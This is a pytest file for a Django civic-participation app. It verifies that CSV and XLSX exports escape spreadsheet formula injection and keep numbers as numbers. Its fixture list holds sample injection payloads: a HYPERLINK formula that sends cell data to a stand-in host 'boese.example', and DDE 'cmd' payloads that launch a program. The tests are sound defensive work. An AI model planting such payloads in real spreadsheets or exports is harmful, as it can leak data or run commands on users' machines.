"""Public exports open safely in a spreadsheet: text that looks like a formula stays text.

Anyone can name a measure or an outcome "=HYPERLINK(…)"; whoever downloads the list and opens it
in Excel must not run it (OWASP CSV injection). Numbers stay numbers, negative ones too.
"""

import csv
import datetime
import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse

from core.models import Area
from hannover_teilhabe.tabular import csv_response, export_cell, xlsx_response
from tests.actionplan.factories import make_measure
from tests.district_statistics.factories import IndicatorFactory, ValueFactory
from tests.workshops.factories import EventFactory, OutcomeFactory, WorkshopFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://boese.example/?d="&A1,"Klick")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER_TEXT = re.compile(r"^[+-]?\d[\d.,]*$")


def _csv_cells(response):
    text = response.content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]


def _assert_csv_is_safe(response):
    cells = _csv_cells(response)
    dangerous = [cell for cell in cells if cell.startswith(DANGEROUS_START) and not NUMBER_TEXT.match(cell)]
    assert dangerous == []
    return cells


def _sheets(response):
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    return [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]


def _assert_xlsx_has_no_formula(response):
    sheets = _sheets(response)
    assert sheets
    for xml in sheets:
        assert "<f>" not in xml and "<f " not in xml and 't="str"' not in xml
    return "".join(sheets)


@pytest.fixture
def hostile_outcomes():
    workshop = WorkshopFactory(event=EventFactory(slug="fachtag-export", is_public=True), number=1)
    return [OutcomeFactory(workshop=workshop, title=text, description=text) for text in HOSTILE]


def test_outcome_csv_export_escapes_formula_text(client, hostile_outcomes):
    cells = _assert_csv_is_safe(client.get(reverse("workshops:outcome_export_csv")))
    for text in HOSTILE:
        assert "'" + text in cells


def test_outcome_xlsx_export_writes_formula_text_as_text(client, hostile_outcomes):
    from openpyxl import load_workbook

    response = client.get(reverse("workshops:outcome_export_xlsx"))
    _assert_xlsx_has_no_formula(response)
    values = [cell for row in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)
              for cell in row]
    assert "'" + HOSTILE[0] in values


def test_measure_exports_escape_formula_text(client, planner):
    for text in HOSTILE[:4]:
        make_measure(by=planner, title=text[:200], summary=text)
    _assert_csv_is_safe(client.get(reverse("actionplan:measure_export", args=["csv"])))
    xml = _assert_xlsx_has_no_formula(client.get(reverse("actionplan:measure_export", args=["xlsx"])))
    assert "'=HYPERLINK(" in xml.replace("&quot;", '"')


def test_statistics_export_escapes_the_preamble_and_keeps_negative_numbers(client):
    indicator = IndicatorFactory(key="saldo", name='=HYPERLINK("http://boese.example","Saldo")',
                                 unit="sonstige", licence="@dl-de/by-2-0", source_publisher="-Statistikstelle")
    ValueFactory(indicator=indicator, area=Area.objects.get(key="stadt"), year=2024, value=Decimal("-3.5"))
    response = client.get(reverse("statistics:export"), {"format": "csv", "indikator": indicator.pk})
    cells = _assert_csv_is_safe(response)
    preamble = [cell for cell in cells if "Quelle:" in cell]
    assert preamble and preamble[0].startswith("'=HYPERLINK")
    assert "-3,5" in cells  # a negative number is a number, not escaped text


def test_one_function_neutralises_text_and_leaves_numbers_and_dates():
    assert [export_cell(text) for text in HOSTILE] == ["'" + text for text in HOSTILE]
    assert export_cell(-3) == -3 and export_cell(Decimal("-1.5")) == Decimal("-1.5")
    assert export_cell("-1.234,5") == "-1.234,5" and export_cell("+49") == "+49"
    assert export_cell(datetime.date(2026, 11, 25)) == datetime.date(2026, 11, 25)
    assert export_cell("Familienzentrum") == "Familienzentrum" and export_cell(None) == ""


def test_xlsx_keeps_numbers_as_number_cells_and_text_as_text_cells():
    response = xlsx_response("probe", ["=Kopf"], [["=1+1", -3, Decimal("-2.5"), 7, "x\x07y"]])
    xml = _assert_xlsx_has_no_formula(response)
    assert re.search(r'<c r="B2"( s="\d+")? t="n"><v>-3</v></c>', xml)
    assert re.search(r'<c r="C2"( s="\d+")? t="n"><v>-2.5</v></c>', xml)
    assert "<t>'=1+1</t>" in xml and "<t>'=Kopf</t>" in xml
    assert "<t>xy</t>" in xml  # a control character XML cannot hold is dropped, the file stays valid


def test_csv_header_and_preamble_go_through_the_same_escaping():
    cells = _csv_cells(csv_response("probe", ["@Kopf"], [["-1", "=1"]], preamble=["+Titel"]))
    assert cells == ["'+Titel", "'@Kopf", "-1", "'=1"]
